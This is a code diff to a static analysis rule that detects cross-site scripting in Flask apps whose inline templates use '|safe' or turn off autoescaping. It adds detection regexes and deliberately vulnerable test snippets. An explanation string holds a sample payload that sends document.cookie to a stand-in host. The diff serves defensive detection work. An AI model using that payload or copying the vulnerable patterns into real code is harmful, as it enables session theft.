@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import ast
+import re
 
 from tabguard.engine.rule import Invalid, Rule
 from tabguard.engine.types import Related
@@ -19,6 +20,11 @@ from tabguard.rules.injection._html import (
     unescaped_template,
 )
 from tabguard.rules.injection._strings import built_string, is_string_building, raised
+
+# Flask renders an inline template with auto-escaping on; the template itself can switch it off.
+_INLINE_RENDER = frozenset({"flask.render_template_string", "flask.templating.render_template_string"})
+_MARKED_SAFE = re.compile(r"\{\{-?\s*(\w+)[^{}]*?\|\s*safe\b")
+_AUTOESCAPE_OFF = re.compile(r"\{%-?\s*autoescape\s+false\b")
 
 
 def _declared_type(call: ast.Call, ctx) -> str | None:
@@ -41,7 +47,7 @@ class HtmlResponseXss(Rule):
     message = "HTML response built from user input ({source}) without escaping"
     placeholders = {"source": "request data"}
     aliases = ()
-    call_names = last_names(HTML_RESPONSES | FLASK_RENDER)
+    call_names = last_names(HTML_RESPONSES | FLASK_RENDER | _INLINE_RENDER)
     what = "The response body is HTML and includes {source} as written, bypassing template auto-escaping."
     why = (
         "A link such as `/hello?name=<script>fetch('//evil.test?c='+document.cookie)</script>` makes the "
@@ -65,6 +71,10 @@ class HtmlResponseXss(Rule):
         "https://flask.palletsprojects.com/en/stable/security/#cross-site-scripting-xss",
     )
     VALID = (
+        # Only the code's own markup is marked safe; the request value stays escaped.
+        "from flask import request, render_template_string\nfrom markupsafe import Markup\n@app.route('/hi')\ndef hi():\n"
+        "    return render_template_string('<p>{{ name }}</p>{{ footer|safe }}', name=request.args['name'],\n"
+        "                                  footer=Markup('<hr>'))\n",
         "from flask import Flask, request\nfrom markupsafe import escape\napp = Flask(__name__)\n"
         '@app.route("/hi")\ndef hi():\n    return f"<h1>Hello {escape(request.args[\'name\'])}</h1>"\n',
         'from flask import Flask, request, jsonify\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
@@ -87,6 +97,18 @@ class HtmlResponseXss(Rule):
         '    return HttpResponse(template.render({"user": request.user}, request))\n',
     )
     INVALID = (
+        # An inline template that opts a request value out of escaping.
+        Invalid(
+            "from flask import request, render_template_string\n@app.route('/hi')\ndef hi():\n"
+            "    name = request.args.get('name', '')\n"
+            "    return render_template_string('<p>Hello {{ name|safe }}</p>', name=name)\n",
+            message="marks it safe",
+        ),
+        Invalid(
+            "from flask import request, render_template_string\nPAGE = '{% autoescape false %}<p>{{ bio }}</p>{% endautoescape %}'\n"
+            "@app.route('/bio')\ndef bio():\n    return render_template_string(PAGE, bio=request.form['bio'])\n",
+            message="autoescape false",
+        ),
         Invalid(
             'from flask import Flask, request\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
             '    name = request.args.get("name", "")\n    return f"<h1>Hello {name}</h1>"\n',
@@ -174,6 +196,9 @@ class HtmlResponseXss(Rule):
         if callee in FLASK_RENDER:
             self._check_unescaped_template(node, ctx)
             return
+        if callee in _INLINE_RENDER:
+            self._check_marked_safe(node, ctx)
+            return
         if not is_html_response(callee):
             return
         declared = _declared_type(node, ctx)
@@ -211,6 +236,30 @@ class HtmlResponseXss(Rule):
                 severity=raised(self, source),
                 fix=escape_fix(ctx, body),
             )
+
+    def _check_marked_safe(self, node: ast.Call, ctx) -> None:
+        """`render_template_string("<p>{{ name|safe }}</p>", name=...)`: the template opts the value out
+        of escaping (`|safe`, `{% autoescape false %}`), so user input passed for it is rendered as HTML.
+        A template built from input is TG108's finding."""
+        text = ctx.constant_value(node.args[0]) if node.args else None
+        if not isinstance(text, str):
+            return
+        off = _AUTOESCAPE_OFF.search(text) is not None
+        marked = set(_MARKED_SAFE.findall(text))
+        for keyword in node.keywords:
+            if keyword.arg is None or not (off or keyword.arg in marked):
+                continue
+            source = ctx.taint(keyword.value)
+            if source is not None:
+                how = "`{% autoescape false %}`" if off else f"`{{{{ {keyword.arg}|safe }}}}`"
+                ctx.report(
+                    self,
+                    keyword.value,
+                    details={"source": source.label},
+                    source=source,
+                    message=f"User input ({source.label}) rendered unescaped: the template marks it safe with {how}",
+                )
+                return
 
     def _check_unescaped_template(self, node: ast.Call, ctx) -> None:
         """Flask auto-escapes only templates named `.html`, `.htm`, `.xml`, `.xhtml` or `.svg`."""
